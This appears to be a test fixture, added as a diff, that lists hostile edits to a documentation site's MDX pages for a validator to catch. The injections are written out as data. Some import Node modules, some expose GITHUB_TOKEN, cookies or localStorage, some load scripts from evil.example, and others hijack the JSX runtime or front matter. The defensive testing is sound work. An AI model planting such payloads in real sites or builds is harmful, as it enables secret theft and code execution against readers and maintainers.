@@ -1,0 +1,188 @@
+import { append, files, type HostileChange, prepend, replace } from './case';
+
+/** Code that is run while the site is built, or in the browsers of readers. */
+export const programs: HostileChange[] = [
+  {
+    what: 'an import of a module of Node.js',
+    file: files.guide,
+    change: replace(
+      'import GuideTip',
+      "import { execSync } from 'child_process';\nimport GuideTip",
+    ),
+    rule: 'foreign-import',
+  },
+  {
+    what: 'another file under the name of a known component',
+    file: files.guide,
+    change: replace("'./_guide-tip.mdx'", "'../next/_guide-tip.mdx'"),
+    rule: 'foreign-import',
+  },
+  {
+    what: 'the source of a partial in place of what it shows',
+    file: files.guide,
+    change: replace("'./_guide-tip.mdx'", "'!!raw-loader!./_guide-tip.mdx'"),
+    rule: 'foreign-import',
+  },
+  {
+    what: 'an import for its effect alone',
+    file: files.fragment,
+    change: prepend("import '@site/static/evil.css';\n\n"),
+    rule: 'foreign-import',
+  },
+  {
+    what: 'an import between two sections',
+    file: files.integration,
+    change: append("import fs from 'node:fs';"),
+    rule: 'foreign-import',
+  },
+  {
+    what: 'a value that is computed when the module is loaded',
+    file: files.fragment,
+    change: append("export const leak = globalThis.fetch?.('/');"),
+    rule: 'foreign-import',
+  },
+  {
+    what: 'a layout around the page',
+    file: files.guide,
+    change: append('export default function Layout({ children }) {\n  return children;\n}'),
+    rule: 'foreign-import',
+  },
+  {
+    what: 'front matter by way of an export',
+    file: files.home,
+    change: append("export const frontMatter = { slug: '/login' };"),
+    rule: 'foreign-import',
+  },
+  {
+    what: 'a table of contents that is put into the page as HTML',
+    file: files.authorization,
+    change: append("export const toc = [{ value: '<img src=x>', id: 'x', level: 2 }];"),
+    rule: 'foreign-import',
+  },
+  {
+    what: 'a re-export',
+    file: files.home,
+    change: append("export * from '@site/docusaurus.config';"),
+    rule: 'foreign-import',
+  },
+  {
+    what: 'an environment variable in the text',
+    file: files.guide,
+    change: append('Версия {process.env.GITHUB_TOKEN}'),
+    rule: 'foreign-expression',
+  },
+  {
+    what: 'a program between two paragraphs',
+    file: files.authorization,
+    change: append('{(() => { while (true) {} })()}'),
+    rule: 'foreign-expression',
+  },
+  {
+    what: 'a program in an item of a list',
+    file: files.fragment,
+    change: replace('- [', "- {import('//evil.example/x.js')}\n- ["),
+    rule: 'foreign-expression',
+  },
+  {
+    what: 'a program in a cell of a table',
+    file: files.selfHosting,
+    change: replace('| --- | --- |', "| --- | --- |\n| {require('fs')} | x |"),
+    rule: 'foreign-expression',
+  },
+  {
+    what: 'a program in the text of a link',
+    file: files.home,
+    change: replace('[', '[{document.cookie} '),
+    rule: 'foreign-expression',
+  },
+  {
+    what: 'a program in a heading',
+    file: files.authorization,
+    change: replace(' \\{#models}', ' {location.hash} \\{#models}'),
+    rule: 'foreign-expression',
+  },
+  {
+    what: 'a program in the title of an admonition',
+    file: files.selfHosting,
+    change: replace(/:::warning\[/, ':::warning[{document.title} '),
+    rule: 'foreign-expression',
+  },
+  {
+    what: 'a program in a footnote',
+    file: files.fragment,
+    change: append('Текст[^1]\n\n[^1]: {localStorage.clear()}'),
+    rule: 'foreign-expression',
+  },
+  {
+    what: 'a program between two comments',
+    file: files.installation,
+    change: append('{/* nota */ globalThis.evil?.() /* nota */}'),
+    rule: 'foreign-expression',
+  },
+  {
+    what: 'elements inside a program',
+    file: files.fragment,
+    change: append('{<script src="https://evil.example/x.js" />}'),
+    rule: 'foreign-expression',
+  },
+  {
+    what: 'a second stamp, as if part of the page were up to date',
+    file: files.guide,
+    change: replace('# ', '{/* source: 0123456789012345678901234567890123456789 */}\n\n# '),
+    rule: 'foreign-expression',
+  },
+  {
+    what: 'a runtime of its own for all elements of the page, by a comment',
+    file: files.guide,
+    change: append('{/* @jsxImportSource ../../evil */}'),
+    rule: 'compiler-comment',
+  },
+  {
+    what: 'the same behind an import',
+    file: files.guide,
+    change: replace("'./_guide-tip.mdx';", "'./_guide-tip.mdx'; /* @jsxImportSource evil */"),
+    rule: 'compiler-comment',
+  },
+  {
+    what: 'the same in a prop',
+    file: files.home,
+    change: replace('level={3}', 'level={/* @jsxRuntime automatic @jsxImportSource evil */ 3}'),
+    rule: 'compiler-comment',
+  },
+  {
+    what: 'code that the site takes out of its fence and runs',
+    file: files.guide,
+    change: append('```mdx-code-block\nexport const x = process.env;\n```'),
+    rule: 'mdx-code-block',
+  },
+  {
+    what: 'the same in a list, with four backticks',
+    file: files.fragment,
+    change: append('- x\n\n  ````  mdx-code-block\n  <script>alert(1)</script>\n  ````'),
+    rule: 'mdx-code-block',
+  },
+  {
+    what: 'front matter that is a program',
+    file: files.guide,
+    change: replace('---\n', '---js\n{ title: process.exit(1) }\n---\n'),
+    rule: 'front-matter-fence',
+  },
+  {
+    what: 'front matter that is a program, behind a space',
+    file: files.home,
+    change: replace('---\n', '--- javascript\n'),
+    rule: 'front-matter-fence',
+  },
+  {
+    what: 'front matter in a partial, which is a program',
+    file: files.fragment,
+    change: prepend('---js\n{ title: process.exit(1) }\n---\n\n'),
+    rule: 'front-matter-fence',
+  },
+  {
+    what: 'front matter that ends for one program before it ends for another',
+    file: files.home,
+    change: replace('---\n', '---\nslug: /login\n--- #\n'),
+    rule: 'front-matter-fence',
+  },
+];
